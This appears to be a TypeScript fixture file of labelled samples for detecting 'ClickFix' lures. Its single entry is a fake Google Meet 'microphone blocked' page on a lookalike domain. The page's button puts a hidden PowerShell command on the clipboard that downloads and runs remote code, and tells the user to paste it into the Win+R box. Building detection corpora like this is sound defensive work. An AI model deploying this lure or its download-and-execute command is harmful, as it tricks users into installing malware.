import type { Entry } from '../entry.js';

/** ClickFix: fake CAPTCHA / error pages that put a command on the clipboard and tell the user to run it. */
export const entries: Entry[] = [
  {
    id: 'clickfix-meet-mic-fix',
    label: 'clickfix',
    kind: 'clickfix',
    url: 'https://meet-google.us-join.com/xkq-pzar-vtw',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Meet - xkq-pzar-vtw</title>
<style>body{background:#202124;color:#e8eaed;font-family:"Google Sans",Roboto}.d{width:440px;margin:120px auto;background:#fff;color:#202124;border-radius:8px;padding:24px}</style></head>
<body><div class="d"><h3>Your microphone is blocked</h3><p>There is a problem with your browser's audio settings. Try fixing it:</p>
<button id="tryfix" style="background:#1a73e8;color:#fff;border:0;border-radius:4px;padding:10px 20px">Try Fix</button>
<div id="s" hidden><p>Press <b>Win+R</b>, paste with <b>Ctrl+V</b> and press <b>Enter</b>.</p></div></div>
<script>
tryfix.onclick = () => { const t = 'cmd /c start /min powershell -w h -c "irm https://us-join.com/mic.txt | iex"'; navigator.clipboard.writeText(t); s.hidden = false; };
</script></body></html>`,
  },
];
